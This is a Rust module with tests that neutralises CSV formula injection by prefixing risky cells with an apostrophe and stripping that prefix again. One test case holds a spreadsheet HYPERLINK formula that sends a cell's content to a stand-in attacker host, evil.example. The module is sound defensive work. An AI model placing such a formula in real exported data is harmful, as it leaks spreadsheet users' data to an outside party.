//! CSV cells that a spreadsheet would execute instead of display.
//!
//! A cell that begins with `=`, `+`, `-` or `@`, or with a character that spreadsheets skip in front of them,
//! counts as a formula, and a formula can send the neighbouring cells elsewhere (OWASP, "CSV Injection"). Such a
//! cell gets an apostrophe in front, which marks text in a spreadsheet. A number with a sign is no formula and
//! stays a number. A cell that seems to have such an apostrophe already gets another one, so [`shown`] removes
//! exactly what [`safe`] has added.

use std::borrow::Cow;

/// The prefix that marks text in a spreadsheet.
const TEXT: u8 = b'\'';

/// The cell in a form that is safe to write.
pub fn safe(cell: &[u8]) -> Cow<'_, [u8]> {
    if is_formula(bare(cell)) && !is_number(cell) {
        let mut text = Vec::with_capacity(cell.len() + 1);
        text.push(TEXT);
        text.extend_from_slice(cell);
        Cow::Owned(text)
    } else {
        Cow::Borrowed(cell)
    }
}

/// The content of a cell written by [`safe`].
pub fn shown(cell: &[u8]) -> &[u8] {
    match cell.strip_prefix(&[TEXT]) {
        Some(rest) if is_formula(bare(rest)) => rest,
        _ => cell,
    }
}

/// A cell without its leading apostrophes.
fn bare(cell: &[u8]) -> &[u8] {
    let text = cell.iter().position(|byte| *byte != TEXT).unwrap_or(cell.len());
    cell.get(text..).unwrap_or_default()
}

fn is_formula(cell: &[u8]) -> bool {
    let wide = ["\u{ff1d}", "\u{ff0b}", "\u{ff0d}", "\u{ff20}"];
    matches!(cell.first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r' | b'\n'))
        || wide.iter().any(|wide| cell.starts_with(wide.as_bytes()))
}

/// Digits, with an optional sign and decimal point.
fn is_number(cell: &[u8]) -> bool {
    let digits = cell.strip_prefix(b"-").or_else(|| cell.strip_prefix(b"+")).unwrap_or(cell);
    let mut parts = digits.split(|byte| *byte == b'.');
    let all = |part: Option<&[u8]>| {
        part.is_some_and(|part| !part.is_empty() && part.iter().all(u8::is_ascii_digit))
    };
    let (whole, rest) = (all(parts.next()), parts.next());
    whole && (rest.is_none() || all(rest)) && parts.next().is_none()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_formula_is_written_as_text_and_restored() {
        for (cell, written) in [
            ("", ""),
            ("tea", "tea"),
            ("O'Neill", "O'Neill"),
            ("'tis", "'tis"),
            ("-5", "-5"),
            ("+5", "+5"),
            ("-0.50", "-0.50"),
            ("2026-11-29", "2026-11-29"),
            ("=1+1", "'=1+1"),
            ("=HYPERLINK(\"http://evil.example/\"&A1)", "'=HYPERLINK(\"http://evil.example/\"&A1)"),
            ("@SUM(1)", "'@SUM(1)"),
            ("+49 30 123", "'+49 30 123"),
            ("-", "'-"),
            ("-.5", "'-.5"),
            ("-5.", "'-5."),
            ("-1.2.3", "'-1.2.3"),
            ("-2+3", "'-2+3"),
            ("-A", "'-A"),
            ("--5", "'--5"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("\n=1", "'\n=1"),
            ("\u{ff1d}1", "'\u{ff1d}1"),
            ("'=1", "''=1"),
            ("''=1", "'''=1"),
            ("'-5", "''-5"),
            ("'", "'"),
        ] {
            assert_eq!(&*safe(cell.as_bytes()), written.as_bytes(), "{cell:?}");
            assert_eq!(shown(written.as_bytes()), cell.as_bytes(), "{written:?}");
        }
        // As a person types it into a spreadsheet.
        assert_eq!(shown(b"'-5"), b"-5");
    }
}
